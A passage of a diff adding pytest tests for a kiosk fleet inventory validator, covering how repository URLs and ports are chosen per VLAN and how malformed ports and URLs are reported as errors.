+                    "pi-west-1": {"vlans": {"lab": {"source": "10.3.2.2"}}},
+                    "pi-west-2": {"vlans": {"hall": {"source": "10.3.1.3"}},
+                                  "repo_url": "https://pi-west-2.lan/kiosk-releases"},
+                },
+                "kiosks": {"kiosk-west-01": {"mac": "52:54:00:a1:00:01", "ip": "10.3.1.11", "vlan": "hall"}},
+            },
+        }
+    }
+
+
+@pytest.fixture
+def inventory():
+    return fleet_inventory.validate(raw_inventory())
+
+
+def test_repo_port_defaults_to_80_and_repo_url_is_normalised(inventory):
+    assert inventory["campuses"]["east"]["repo_port"] == 80
+    assert inventory["campuses"]["west"]["repo_port"] == 8080
+    assert inventory["campuses"]["west"]["pis"]["pi-west-2"]["repo_url"] == "https://pi-west-2.lan/kiosk-releases/"
+    assert "repo_url" not in inventory["campuses"]["east"]["pis"]["pi-east-1"]
+
+
+def test_repo_url_prefers_the_kiosk_vlan_address(inventory):
+    assert fleet_release.repo_url(inventory, "east", "pi-east-1", "stairs") == "http://10.1.2.2:80/kiosk-releases/"
+    assert fleet_release.repo_url(inventory, "east", "pi-east-1", "hall") == "http://10.1.1.2:80/kiosk-releases/"
+    # no VLAN, or a VLAN the Pi has no address on: its first address by VLAN name
+    assert fleet_release.repo_url(inventory, "east", "pi-east-2") == "http://10.1.1.3:80/kiosk-releases/"
+    assert fleet_release.repo_url(inventory, "west", "pi-west-1", "hall") == "http://10.3.2.2:8080/kiosk-releases/"
+    assert fleet_release.repo_url(inventory, "west", "pi-west-2", "hall") == "https://pi-west-2.lan/kiosk-releases/"
+    assert fleet_release.repo_url(inventory, "east", "pi-east-3", "hall") is None
+
+
+def test_kiosk_repo_urls_home_pi_first_skipping_pis_without_address(inventory):
+    assert fleet_release.kiosk_repo_urls(inventory, "east", "kiosk-east-02", "pi-east-2") == [
+        ("pi-east-2", "http://10.1.2.3:80/kiosk-releases/"),
+        ("pi-east-1", "http://10.1.2.2:80/kiosk-releases/"),
+    ]
+    assert fleet_release.kiosk_repo_urls(inventory, "east", "kiosk-east-01", "pi-east-3") == [
+        ("pi-east-1", "http://10.1.1.2:80/kiosk-releases/"),
+        ("pi-east-2", "http://10.1.1.3:80/kiosk-releases/"),
+    ]
+    assert fleet_release.kiosk_repo_urls(inventory, "west", "kiosk-west-01", "pi-west-1") == [
+        ("pi-west-1", "http://10.3.2.2:8080/kiosk-releases/"),
+        ("pi-west-2", "https://pi-west-2.lan/kiosk-releases/"),
+    ]
+
+
+def test_kiosk_repo_urls_errors(inventory):
+    raises(fleet_release.kiosk_repo_urls, inventory, "east", "kiosk-west-01", "pi-east-1",
+           match=r"^kiosk: 'kiosk-west-01' is not a kiosk of campus east")
+    for pi in inventory["campuses"]["east"]["pis"].values():
+        pi["vlans"] = {}
+    raises(fleet_release.kiosk_repo_urls, inventory, "east", "kiosk-east-01", "pi-east-1",
+           match=r"^campuses\.east\.pis: no Pi has a repo_url or a source address")
+
+
+def inventory_errors(raw):
+    with pytest.raises(fleet_inventory.InventoryError) as info:
+        fleet_inventory.validate(raw)
+    return info.value.errors
+
+
+@pytest.mark.parametrize("bad", [0, 65536, -80, "80", "http", True, None, 80.0])
+def test_bad_repo_port_is_named(bad):
+    raw = raw_inventory()
+    raw["campuses"]["east"]["repo_port"] = bad
+    assert inventory_errors(raw) == [f"campuses.east.repo_port: {bad!r} is not a port number (1-65535)"]
+
+
+@pytest.mark.parametrize(
+    "bad", ["pi-east-1.lan/kiosk-releases/", "ftp://pi/kiosk-releases/", "http://", "http:///x/", "http://pi-east-1",
+            "//pi/x/", 42, ["http://pi/"], {"url": "http://pi/"}]
+)
+def test_bad_repo_url_is_named(bad):
+    raw = raw_inventory()
+    raw["campuses"]["east"]["pis"]["pi-east-1"]["repo_url"] = bad
+    assert inventory_errors(raw) == [
+        f"campuses.east.pis.pi-east-1.repo_url: {bad!r} is not an http(s) URL ending in a path"
+    ]
+
+
+@pytest.mark.parametrize("bad", ["http://pi-east-1/kiosk releases/", "http://pi-east-1/kiosk-releases/\n"])
+def test_repo_url_with_whitespace_is_refused(bad):
+    # BUG (minor): the repo_url pattern only checks the start of the URL
+    # (re.match, no end anchor), so whitespace after the host passes and
+    # surfaces later as a 404 on every kiosk. Fix: r"^https?://[^\s/]+/\S*\Z".
+    raw = raw_inventory()
+    raw["campuses"]["east"]["pis"]["pi-east-1"]["repo_url"] = bad
+    assert any(e.startswith("campuses.east.pis.pi-east-1.repo_url:") for e in inventory_errors(raw))
